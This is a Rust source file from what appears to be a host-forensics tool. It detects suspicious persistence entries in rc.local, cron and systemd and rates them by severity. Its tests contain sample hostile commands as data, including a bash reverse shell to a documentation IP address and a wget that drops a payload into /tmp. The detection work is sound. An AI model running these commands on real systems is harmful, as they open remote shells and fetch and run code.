//! Persistence points: the places that start programs at boot or on a schedule
//! (rc.local, cron, systemd units). Each command found there is a [`Launch`]; what its
//! line does ([`shell::analyse`]) decides whether it is a finding, of which [`Kind`].
//!
//! The launches that are findings of medium severity or worse also become the verdict
//! rules' [`Persistence`], so that flows of the processes they start are judged
//! suspicious (see [`super::persistence`]).

use crate::enrich::verdict::Persistence;

use super::{
    advice,
    finding::{Finding, Severity},
    shell::{self, Sign, Signs},
};

/// Where a command was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Point {
    /// `/etc/rc.local`, `/etc/rc.d/rc.local`.
    RcLocal,
    /// crontabs, `/etc/cron.d`, `/etc/cron.{hourly,daily,weekly,monthly}`.
    Cron,
    /// `Exec*=` lines of units in `/etc/systemd/system`.
    Systemd,
}

impl Point {
    /// The start of its findings' ids.
    fn prefix(self) -> &'static str {
        match self {
            Point::RcLocal => "rc-local",
            Point::Cron => "cron",
            Point::Systemd => "systemd",
        }
    }

    /// The subject of its findings' titles.
    fn subject(self) -> &'static str {
        match self {
            Point::RcLocal => "rc.local",
            Point::Cron => "A cron job",
            Point::Systemd => "A systemd unit",
        }
    }
}

/// What a launch does that makes it a finding: its worst sign, unless it fetches code
/// and runs it, which only a reverse shell outranks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Downloads or decodes, and runs, writes to a temporary or hidden place, or makes
    /// executable.
    FetchAndRun,
    Sign(Sign),
}

impl Kind {
    fn of(signs: &Signs) -> Option<Kind> {
        let worst = signs.worst()?;
        let fetches = signs.has(Sign::Download) || signs.has(Sign::Decode);
        let runs = [
            Sign::PipeToShell,
            Sign::TempPath,
            Sign::HiddenPath,
            Sign::MakeExecutable,
        ]
        .iter()
        .any(|&sign| signs.has(sign));
        Some(if worst != Sign::ReverseShell && fetches && runs {
            Kind::FetchAndRun
        } else {
            Kind::Sign(worst)
        })
    }

    fn suffix(self) -> &'static str {
        match self {
            Kind::Sign(Sign::ReverseShell) => "reverse-shell",
            Kind::FetchAndRun => "download-exec",
            Kind::Sign(Sign::Download) => "download",
            Kind::Sign(Sign::Decode) => "decode",
            Kind::Sign(Sign::PipeToShell) => "pipe-shell",
            Kind::Sign(Sign::TempPath) => "temp-exec",
            Kind::Sign(Sign::HiddenPath) => "hidden-exec",
            Kind::Sign(Sign::MakeExecutable) => "chmod-exec",
            Kind::Sign(Sign::Background) => "background",
        }
    }

    fn severity(self) -> Severity {
        match self {
            Kind::Sign(Sign::ReverseShell) | Kind::FetchAndRun => Severity::Critical,
            Kind::Sign(Sign::Download | Sign::Decode | Sign::PipeToShell | Sign::TempPath) => {
                Severity::High
            }
            Kind::Sign(Sign::HiddenPath | Sign::MakeExecutable) => Severity::Medium,
            Kind::Sign(Sign::Background) => Severity::Low,
        }
    }

    fn phrase(self) -> &'static str {
        match self {
            Kind::Sign(Sign::ReverseShell) => "opens a shell to a remote host",
            Kind::FetchAndRun => "downloads or decodes code and runs it",
            Kind::Sign(Sign::Download) => "downloads from the network",
            Kind::Sign(Sign::Decode) => "decodes base64-hidden text",
            Kind::Sign(Sign::PipeToShell) => "feeds text to a shell",
            Kind::Sign(Sign::TempPath) => "runs or drops a program in a temporary directory",
            Kind::Sign(Sign::HiddenPath) => "runs or drops a program in a hidden place",
            Kind::Sign(Sign::MakeExecutable) => "makes a file executable",
            Kind::Sign(Sign::Background) => "starts a program in the background",
        }
    }
}

/// One command at a persistence point.
#[derive(Clone, Debug)]
pub struct Launch {
    pub point: Point,
    /// The file, as the host sees it.
    pub file: String,
    /// Its (first) line number.
    pub line: usize,
    /// The line as written, without surrounding blanks.
    pub text: String,
    /// Runs every minute (cron).
    pub every_minute: bool,
    pub signs: Signs,
}

impl Launch {
    /// `command` is the part of `text` a shell runs (without a cron schedule or a
    /// unit's `ExecStart=`).
    pub fn new(point: Point, file: &str, line: usize, text: &str, command: &str) -> Self {
        Self {
            point,
            file: file.to_owned(),
            line,
            text: text.trim().to_owned(),
            every_minute: false,
            signs: shell::analyse(command),
        }
    }

    pub fn every_minute(mut self, every_minute: bool) -> Self {
        self.every_minute = every_minute;
        self
    }

    /// `FILE:LINE: text`.
    pub fn evidence(&self) -> String {
        format!("{}:{}: {}", self.file, self.line, self.text)
    }

    /// The finding this launch is, if its line shows any sign.
    pub fn finding(&self) -> Option<Finding> {
        let kind = Kind::of(&self.signs)?;
        let (suffix, severity) = match (self.point, kind) {
            // Health checks ping URLs from cron: a download alone is worth a look, one
            // every minute more so.
            (Point::Cron, Kind::Sign(Sign::Download)) if self.every_minute => {
                ("minutely-download", Severity::High)
            }
            (Point::Cron, Kind::Sign(Sign::Download)) => ("download", Severity::Medium),
            _ => (kind.suffix(), kind.severity()),
        };
        let mut title = format!("{} {}", self.point.subject(), kind.phrase());
        if self.every_minute && kind != Kind::Sign(Sign::Background) {
            title.push_str(", every minute");
        }
        let details: Vec<&str> = self
            .signs
            .tools
            .iter()
            .chain(&self.signs.places)
            .map(String::as_str)
            .collect();
        if !details.is_empty() {
            title.push_str(&format!(" ({})", details.join(", ")));
        }
        let advice = if severity >= Severity::High {
            advice::REMOVE_ENTRY
        } else {
            advice::REVIEW_ENTRY
        };
        let id = format!("{}-{suffix}", self.point.prefix());
        Some(Finding::new(id, severity, title, self.evidence(), advice))
    }
}

/// The launches flagged medium or worse, as the verdict rules take them.
pub fn flagged(launches: &[Launch]) -> Persistence {
    let mut persistence = Persistence::new();
    for launch in launches {
        if launch
            .finding()
            .is_some_and(|finding| finding.severity >= Severity::Medium)
        {
            persistence.add(&launch.file, &launch.text);
        }
    }
    persistence
}

/// The commands of a shell script with their line numbers: blank lines, comments and
/// the `#!` line left out, lines continued with a trailing `\` joined.
pub fn script_lines(text: &str) -> Vec<(usize, String)> {
    let mut commands = Vec::new();
    let mut pending: Option<(usize, String)> = None;
    for (index, line) in text.lines().enumerate() {
        let (start, mut joined) = pending.take().unwrap_or((index + 1, String::new()));
        let trimmed = line.trim();
        if joined.is_empty() && (trimmed.is_empty() || trimmed.starts_with('#')) {
            continue;
        }
        match trimmed.strip_suffix('\\') {
            Some(head) => {
                joined.push_str(head.trim_end());
                joined.push(' ');
                pending = Some((start, joined));
            }
            None => {
                joined.push_str(trimmed);
                commands.push((start, joined));
            }
        }
    }
    if let Some((start, joined)) = pending {
        commands.push((start, joined.trim_end().to_owned()));
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(point: Point, line: &str) -> Option<Finding> {
        Launch::new(point, "/etc/rc.local", 3, line, line).finding()
    }

    #[test]
    fn the_worst_sign_names_the_finding() {
        let wget = finding(
            Point::RcLocal,
            "wget -q http://203.0.113.50/sys -O /tmp/sys",
        )
        .unwrap();
        assert_eq!(wget.id, "rc-local-download-exec");
        assert_eq!(wget.severity, Severity::Critical);
        assert_eq!(
            wget.title,
            "rc.local downloads or decodes code and runs it (wget, /tmp/sys)"
        );
        assert_eq!(
            wget.evidence,
            "/etc/rc.local:3: wget -q http://203.0.113.50/sys -O /tmp/sys"
        );
        for (line, id, severity) in [
            (
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                "rc-local-reverse-shell",
                Severity::Critical,
            ),
            ("curl -s http://x/ip", "rc-local-download", Severity::High),
            ("echo aGk= | base64 -d", "rc-local-decode", Severity::High),
            ("cat /opt/x | sh", "rc-local-pipe-shell", Severity::High),
            ("/tmp/x", "rc-local-temp-exec", Severity::High),
            ("/opt/.x/run", "rc-local-hidden-exec", Severity::Medium),
            ("chmod +x /opt/x", "rc-local-chmod-exec", Severity::Medium),
            ("nohup /opt/app/run &", "rc-local-background", Severity::Low),
        ] {
            let found = finding(Point::RcLocal, line).unwrap();
            assert_eq!(
                (found.id.as_str(), found.severity),
                (id, severity),
                "{line}"
            );
        }
        assert_eq!(finding(Point::RcLocal, "exit 0"), None);
    }

    #[test]
    fn cron_downloads_weigh_by_frequency() {
        let launch = |minutely| {
            Launch::new(
                Point::Cron,
                "/etc/crontab",
                1,
                "x",
                "curl -fsS https://hc-ping.com/u",
            )
            .every_minute(minutely)
            .finding()
            .unwrap()
        };
        assert_eq!(
            (launch(false).id.as_str(), launch(false).severity),
            ("cron-download", Severity::Medium)
        );
        let minutely = launch(true);
        assert_eq!(
            (minutely.id.as_str(), minutely.severity),
            ("cron-minutely-download", Severity::High)
        );
        assert!(
            minutely.title.contains("every minute"),
            "{}",
            minutely.title
        );
    }

    #[test]
    fn flagged_launches_become_persistence() {
        let launches = [
            Launch::new(
                Point::RcLocal,
                "/etc/rc.local",
                2,
                "/tmp/.x/run &",
                "/tmp/.x/run &",
            ),
            Launch::new(
                Point::RcLocal,
                "/etc/rc.local",
                3,
                "nohup /opt/app &",
                "nohup /opt/app &",
            ),
            Launch::new(
                Point::RcLocal,
                "/etc/rc.local",
                4,
                "/usr/bin/true",
                "/usr/bin/true",
            ),
        ];
        let persistence = flagged(&launches);
        let entries: Vec<_> = persistence.entries().map(|e| e.command.as_str()).collect();
        assert_eq!(entries, ["/tmp/.x/run &"]);
    }

    #[test]
    fn scripts_split_into_commands() {
        let text = "#!/bin/sh -e\n\n# comment\nwget http://x \\\n  -O /tmp/x\n  exit 0\n";
        assert_eq!(
            script_lines(text),
            [
                (4, "wget http://x -O /tmp/x".to_owned()),
                (6, "exit 0".to_owned())
            ]
        );
    }
}
